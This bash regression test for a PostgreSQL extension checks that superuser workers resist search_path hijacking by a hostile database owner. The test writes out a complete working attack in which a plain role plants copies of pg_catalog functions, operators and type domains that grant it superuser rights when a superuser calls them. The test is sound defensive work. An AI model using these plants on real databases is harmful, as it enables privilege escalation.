#!/usr/bin/env bash
# fault_privilege.sh — a hostile database owner cannot make the superuser
# workers (or a superuser calling junction_process_inbox / junction_sync) run
# its code.
#
# mallory, a plain LOGIN role, owns the database the workers serve, hence its
# public schema.  It creates a schema named after the workers' user
# (postgres), points the database's default search_path at its own schemas
# ahead of pg_catalog (ALTER DATABASE ... SET search_path), and plants, in
# both schemas:
#   - a copy, same signature, of every pg_catalog function whose name occurs in
#     the extension's install script or in the SQL of its C sources;
#   - better matches than pg_catalog offers for calls that need a cast
#     (make_interval(secs integer), the issue's example, and friends);
#   - a copy of every pg_catalog binary operator between the common types;
#   - domains named like the common types, whose CHECK calls its code.
# Each plant records that it ran and, if it runs as a superuser, makes mallory
# one.  Then the workers drain deliveries of every kind, trim the inbox and run
# an automatic backfill, and a superuser session on the hostile default path
# calls junction_process_inbox, junction_sync and junction_replay.  Afterwards
# mallory is not a superuser and no plant ran; a control shows the plants do
# run for an unqualified call made on that path.
set -uo pipefail
. "$(dirname "$0")/lib_fault.sh"
W=/tmp/junction-fault-privilege.$$
DB=junction_hostile
USER_ID=0190b2a0-0000-7000-8000-0000000000d1
trap 'jx_cluster_stop; [ -n "${MOCK_PID:-}" ] && kill $MOCK_PID 2>/dev/null; rm -rf "$W"' EXIT
mkdir -p "$W"
python3 "$ROOT/test/mock_junction.py" --port 0 --portfile "$W/mock.port" > "$W/mock.log" 2>&1 &
MOCK_PID=$!
for i in $(seq 1 50); do [ -s "$W/mock.port" ] && break; sleep 0.1; done
MOCK="http://127.0.0.1:$(cat "$W/mock.port")"
# the key comes from a file (the recommended way), so the backfill worker is shown to use it too
mkdir -p "$W/keys"; printf 'sk_us_test_key\n' > "$W/keys/api.key"
chown -R postgres: "$W/keys"; chmod 700 "$W/keys"; chmod 600 "$W/keys/api.key"
JX_PORT=5447 jx_cluster_start "$W/pg" $DB "junction.batch_size = 50
junction.api_base_url = '$MOCK'
junction.api_key_file = '$W/keys/api.key'"

# The test's own sessions resolve names in pg_catalog only (the database default is hostile).
safe() { PGOPTIONS='-c search_path=pg_catalog' psql -qXAt -v ON_ERROR_STOP=1 -d $DB "$@"; }
# A superuser session on the database's (hostile) default search_path.
hostile() { psql -qXAt -v ON_ERROR_STOP=1 -d $DB "$@"; }

# ---- the superuser installs junction in mallory's database ----
psql -qX -v ON_ERROR_STOP=1 -d postgres >/dev/null <<SQL
CREATE ROLE mallory LOGIN;
ALTER DATABASE $DB OWNER TO mallory;
SQL
# every string literal of the C sources: the SQL the workers and the drain run
for f in "$ROOT"/src/*.c; do grep -o '"[^"]*"' "$f"; done | tr -d '"' > "$W/c_sql.txt"
chmod 644 "$W/c_sql.txt"
PGOPTIONS='-c search_path=pg_catalog,public' psql -qXAt -v ON_ERROR_STOP=1 -d $DB >/dev/null <<SQL
CREATE EXTENSION junction SCHEMA public;
INSERT INTO junction.webhook_secrets(secret) VALUES ('$SECRET');
\i $ROOT/test/sql/deliveries.sql
-- the deliveries, signed now (before any plant exists): 2,000 of every kind for the worker ...
CREATE TABLE public.batch1 AS
SELECT d.headers, d.body FROM generate_series(0, 1999) i,
     LATERAL jx_test_delivery(i, '$SECRET', extract(epoch FROM now())::bigint) d;
-- ... a connection, a historical pull (queues a backfill), an unsigned one (quarantined) ...
INSERT INTO public.batch1
SELECT jsonb_build_object('svix-id', id, 'svix-timestamp', extract(epoch FROM now())::bigint::text,
         'svix-signature', junction_sign_webhook('$SECRET', id, extract(epoch FROM now())::bigint, b)), b
FROM (VALUES
  ('msg_priv_conn', '{"event_type":"provider.connection.created","user_id":"$USER_ID","client_user_id":"c","team_id":"0190b2a0-0000-7000-8000-00000000aaaa","data":{"user_id":"$USER_ID","provider":{"name":"Oura","slug":"oura","logo":"x"},"resource_availability":{}}}'),
  ('msg_priv_hist', '{"event_type":"historical.data.heartrate.created","user_id":"$USER_ID","client_user_id":"c","team_id":"0190b2a0-0000-7000-8000-00000000aaaa","data":{"user_id":"$USER_ID","provider":"apple_health_kit","start_date":"2025-06-01T00:00:00+00:00","end_date":"2025-06-02T23:59:59+00:00","is_final":true}}')
) v(id, b);
INSERT INTO public.batch1 VALUES ('{"svix-id": "msg_priv_forged"}', '{"event_type": "x"}');
-- ... and 200 for junction_process_inbox in a superuser session on the hostile path
CREATE TABLE public.batch2 AS
SELECT d.headers, d.body FROM generate_series(2000, 2199) i,
     LATERAL jx_test_delivery(i, '$SECRET', extract(epoch FROM now())::bigint) d;
-- the names the extension calls: every identifier before a "(" in the install script and in
-- the string literals of the C sources (the SQL the workers and the drain run)
CREATE TABLE public.jx_names AS
SELECT DISTINCT lower(m[1]) AS name
FROM (SELECT pg_read_file('$($PG_CONFIG --sharedir)/extension/junction--0.2.0.sql') AS src
      UNION ALL SELECT pg_read_file('$W/c_sql.txt')) s,
     regexp_matches(s.src, '([A-Za-z_][A-Za-z0-9_]*)\s*\(', 'g') AS m;
GRANT SELECT ON public.jx_names TO mallory;
SQL
# ---- mallory plants ----
plant_sql() {
cat <<'SQL'
CREATE SCHEMA postgres;
GRANT USAGE ON SCHEMA postgres TO PUBLIC;
CREATE TABLE public.pwned (who text, what text, at timestamptz DEFAULT clock_timestamp());
GRANT INSERT, SELECT ON public.pwned TO PUBLIC;
-- runs with the rights of whoever calls a plant
CREATE FUNCTION public.jx_pwn(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    INSERT INTO public.pwned (who, what) VALUES (current_user, what);
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
    END IF;
    RETURN true;
END
$$;
GRANT EXECUTE ON FUNCTION public.jx_pwn(text) TO PUBLIC;
CREATE TABLE public.planted (kind text, name text);
DO $$
DECLARE
    f record; sch text; body text; n integer := 0;
BEGIN
    FOR f IN
        SELECT p.oid, p.proname, pg_catalog.pg_get_function_arguments(p.oid) AS args,
               pg_catalog.pg_get_function_result(p.oid) AS result, p.proretset,
               p.prorettype = 'pg_catalog.void'::pg_catalog.regtype AS is_void,
               EXISTS (SELECT FROM pg_catalog.unnest(p.proargmodes) m WHERE m IN ('o', 'b', 't')) AS has_out
        FROM pg_catalog.pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace AND p.prokind = 'f'
          AND p.proname IN (SELECT name FROM public.jx_names)
    LOOP
        body := CASE WHEN f.proretset OR f.is_void OR f.has_out
                     THEN 'BEGIN PERFORM public.jx_pwn(' || pg_catalog.quote_literal(f.proname) || '); RETURN; END'
                     ELSE 'BEGIN PERFORM public.jx_pwn(' || pg_catalog.quote_literal(f.proname) || '); RETURN NULL; END' END;
        FOREACH sch IN ARRAY ARRAY['public', 'postgres'] LOOP
            BEGIN
                EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                                          sch, f.proname, f.args, f.result, body);
                INSERT INTO public.planted VALUES ('function', sch || '.' || f.proname || '(' || f.args || ')');
            EXCEPTION WHEN OTHERS THEN
                NULL;  -- "any", internal, cstring ...: not declarable by a plain role
            END;
        END LOOP;
    END LOOP;
END
$$;
-- better matches than pg_catalog's for calls that need a cast
CREATE FUNCTION public.make_interval(secs integer) RETURNS interval LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.jx_pwn('make_interval(secs integer)'); RETURN NULL; END $$;
CREATE FUNCTION public.jsonb_build_object(text, jsonb) RETURNS jsonb LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.jx_pwn('jsonb_build_object(text, jsonb)'); RETURN NULL; END $$;
CREATE FUNCTION public.format(text, text) RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.jx_pwn('format(text, text)'); RETURN NULL; END $$;
CREATE FUNCTION public.unnest(bigint[], text[]) RETURNS SETOF record LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.jx_pwn('unnest(bigint[], text[])'); RETURN; END $$;
INSERT INTO public.planted VALUES ('function', 'make_interval(secs integer)'), ('function', 'jsonb_build_object(text, jsonb)'),
                                  ('function', 'format(text, text)'), ('function', 'unnest(bigint[], text[])');
-- operators: a copy of every binary operator of pg_catalog between the common types
DO $$
DECLARE
    o record; sch text; fn text;
BEGIN
    FOR o IN
        SELECT op.oid, op.oprname, op.oprleft::pg_catalog.regtype AS l, op.oprright::pg_catalog.regtype AS r,
               op.oprresult::pg_catalog.regtype AS res
        FROM pg_catalog.pg_operator op
        WHERE op.oprnamespace = 'pg_catalog'::pg_catalog.regnamespace AND op.oprkind = 'b'
          AND op.oprleft::pg_catalog.regtype::pg_catalog.text IN ('text', 'bigint', 'integer', 'smallint', 'jsonb', 'json',
                'timestamp with time zone', 'timestamp without time zone', 'uuid', 'interval', 'boolean',
                'double precision', 'numeric', 'date', 'text[]', 'bigint[]', 'anyarray', 'anyelement', 'anycompatiblearray',
                'anycompatible', 'bytea', 'name', '"char"', 'oid', 'regclass')
    LOOP
        FOREACH sch IN ARRAY ARRAY['public', 'postgres'] LOOP
            fn := pg_catalog.format('%I.jx_op_%s', sch, o.oid);
            BEGIN
                EXECUTE pg_catalog.format('CREATE FUNCTION %s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L',
                    fn, o.l, o.r, o.res,
                    'BEGIN PERFORM public.jx_pwn(' || pg_catalog.quote_literal('operator ' || o.oprname || ' ' || o.oid) || '); RETURN NULL; END');
                EXECUTE pg_catalog.format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)',
                    sch, o.oprname, o.l, o.r, fn);
                INSERT INTO public.planted VALUES ('operator', sch || '.' || o.oprname || '(' || o.l || ', ' || o.r || ')');
            EXCEPTION WHEN OTHERS THEN
                NULL;
            END;
        END LOOP;
    END LOOP;
END
$$;
-- types: domains named like the common types, whose CHECK runs mallory's code
CREATE FUNCTION public.jx_pwn_check(anyelement) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN RETURN public.jx_pwn('domain check'); END $$;
DO $$
DECLARE
    t text; sch text;
BEGIN
    -- (bigint, integer, boolean ... are keywords: the grammar maps them to pg_catalog)
    FOREACH t IN ARRAY ARRAY['uuid', 'jsonb', 'json', 'interval', 'timestamptz', 'timestamp', 'int8', 'int4',
                             'int2', 'text', 'bool', 'date', 'float8', 'numeric', 'regclass', 'varchar'] LOOP
        FOREACH sch IN ARRAY ARRAY['public', 'postgres'] LOOP
            EXECUTE pg_catalog.format('CREATE DOMAIN %I.%I AS pg_catalog.%s CHECK (public.jx_pwn_check(VALUE))', sch, t, t);
            INSERT INTO public.planted VALUES ('type', sch || '.' || t);
        END LOOP;
    END LOOP;
END
$$;
SQL
}
plant_sql | PGOPTIONS='-c search_path=pg_catalog' psql -qXAt -v ON_ERROR_STOP=1 -U mallory -d $DB >/dev/null
rc=$?
check "mallory (not a superuser) planted its code" "[ $rc -eq 0 ]"
# the database's default search_path: mallory's schemas first
PGOPTIONS='-c search_path=pg_catalog' psql -qXAt -v ON_ERROR_STOP=1 -U mallory -d $DB \
    -c "ALTER DATABASE $DB SET search_path = postgres, public, pg_catalog" >/dev/null
counts=$(safe -c "SELECT string_agg(kind || ' ' || n, ', ' ORDER BY kind) FROM (SELECT kind, count(*) n FROM public.planted GROUP BY kind) c")
echo "planted: $counts"
check "plants cover functions, operators and types (hundreds of each)" \
    "[ \$(safe -c \"SELECT count(*) FROM public.planted WHERE kind = 'function'\") -gt 200 ] && [ \$(safe -c \"SELECT count(*) FROM public.planted WHERE kind = 'operator'\") -gt 200 ] && [ \$(safe -c \"SELECT count(*) FROM public.planted WHERE kind = 'type'\") = 32 ]"
check "make_interval, now, unnest, to_jsonb and jsonb_to_record are among the planted functions" \
    "[ \$(safe -c \"SELECT count(DISTINCT split_part(split_part(name, '.', 2), '(', 1)) FROM public.planted WHERE kind = 'function' AND split_part(split_part(name, '.', 2), '(', 1) IN ('make_interval','now','unnest','to_jsonb','jsonb_to_record')\") = 5 ]"

# control: on this path an unqualified call does reach a plant (in a transaction rolled back)
ctl=$(hostile <<'SQL'
BEGIN;
SELECT junction._trim_inbox(make_interval(secs => 300), 10);
SELECT count(*) FROM public.pwned;
ROLLBACK;
SQL
)
check "control: the worker's old unqualified trim statement runs a plant on this path" "[ \"\$(echo \"$ctl\" | tail -1)\" -gt 0 ]"
check "control left nothing behind" "[ \$(safe -c 'SELECT count(*) FROM public.pwned') = 0 ]"

# the workers connected before the plants: restart them so they start on the hostile default
# path too (and the inbox worker trims at start); retention 1 s so the trim has work
safe -c "ALTER SYSTEM SET junction.inbox_retention = 1" -c "SELECT pg_reload_conf()" >/dev/null
safe -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE backend_type IN ('junction worker', 'junction backfill')" >/dev/null

# ---- 1. the workers drain deliveries of every kind, and run a backfill ----
safe -c "INSERT INTO junction.inbox (headers, body) SELECT headers, body FROM public.batch1" >/dev/null
deadline=$((SECONDS + 120))
until [ "$(safe -c "SELECT count(*) FROM junction.inbox WHERE status = 'pending'")" = 0 ] || [ $SECONDS -gt $deadline ]; do sleep 0.2; done
check "the worker drained every delivery" "[ \$(safe -c \"SELECT count(*) FROM junction.inbox WHERE status = 'pending'\") = 0 ]"
check "... typing them (events, samples, summaries, a connection)" \
    "[ \$(safe -c \"SELECT (SELECT count(*) FROM junction.events) > 1900 AND (SELECT count(*) FROM junction.samples) > 10000 AND (SELECT count(*) FROM junction.activity) > 0 AND (SELECT count(*) FROM junction.connections) > 0\") = t ]"
check "... and quarantining the forged one" \
    "[ \$(safe -c \"SELECT sqlstate FROM junction.inbox WHERE headers->>'svix-id' = 'msg_priv_forged'\") = 28000 ]"
deadline=$((SECONDS + 60))
until [ "$(safe -c "SELECT fetch_status FROM junction.backfills WHERE user_id = '$USER_ID' AND resource = 'heartrate'")" = done ] || [ $SECONDS -gt $deadline ]; do sleep 0.2; done
check "the backfill worker ran the historical pull's backfill (key from junction.api_key_file)" \
    "[ \"\$(safe -c \"SELECT fetch_status || ' ' || (rows_loaded > 0) FROM junction.backfills WHERE user_id = '$USER_ID' AND resource = 'heartrate'\")\" = 'done true' ]"
safe -c "SELECT resource, provider, fetch_status, rows_loaded, fetch_error FROM junction.backfills"

# ---- 2. the inbox worker trims processed rows past retention ----
before=$(safe -c "SELECT count(*) FROM junction.inbox WHERE status = 'processed'")
sleep 2
safe -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE backend_type = 'junction worker'" >/dev/null
deadline=$((SECONDS + 30))
until [ "$(safe -c "SELECT count(*) FROM junction.inbox WHERE status = 'processed'")" -lt "$before" ] || [ $SECONDS -gt $deadline ]; do sleep 0.2; done
check "the restarted worker trimmed processed rows ($before before)" \
    "[ \$(safe -c \"SELECT count(*) FROM junction.inbox WHERE status = 'processed'\") -lt $before ]"

# ---- 3. a superuser on the hostile default path calls the entry points ----
# (its own statements call no function or operator but junction's: plain values only)
out=$(hostile 2>&1 <<SQL
SHOW search_path;
BEGIN;
INSERT INTO junction.inbox (headers, body) SELECT headers, body FROM public.batch2;
\echo processed
SELECT junction_process_inbox(1000);
COMMIT;
\echo synced
SELECT resource, rows_loaded FROM junction_sync('$USER_ID', ARRAY['activity', 'sleep', 'heartrate'],
                                                '2025-06-01', '2025-06-03 23:59:59');
\echo replayed
SELECT junction_replay();
\echo received
SELECT junction_receive('{"svix-id": "msg_priv_receive"}', '{}');
SQL
)
echo "$out"
check "junction_process_inbox drained 200 rows on the hostile path" "echo \"\$out\" | grep -A1 -x processed | tail -1 | grep -qx 200"
check "junction_sync loaded rows of heartrate on the hostile path" "echo \"\$out\" | grep -qE '^heartrate\|[1-9]'"
check "junction_replay and junction_receive ran on the hostile path" \
    "echo \"\$out\" | grep -A1 -x replayed | tail -1 | grep -qx 1 && echo \"\$out\" | grep -A1 -x received | tail -1 | grep -qE '^[0-9]+\$'"
deadline=$((SECONDS + 30))
until [ "$(safe -c "SELECT count(*) FROM junction.inbox WHERE status = 'pending'")" = 0 ] || [ $SECONDS -gt $deadline ]; do sleep 0.2; done

# ---- the verdict ----
check "mallory is still not a superuser" "[ \$(safe -c \"SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'\") = f ]"
ran=$(safe -c "SELECT coalesce(string_agg(DISTINCT who || ':' || what, ', '), '') FROM public.pwned")
check "no planted function, operator or type check ran${ran:+ (ran: $ran)}" "[ -z \"$ran\" ]"
check "no junction worker logged an error" \
    "! grep -E 'junction (worker|backfill): (ERROR|FATAL)' '$W/pg/server.log' | grep -v 'terminating background worker' | grep -q ."
echo "$CHECKS_PASSED passed, $CHECKS_FAILED failed"
[ $CHECKS_FAILED -eq 0 ]
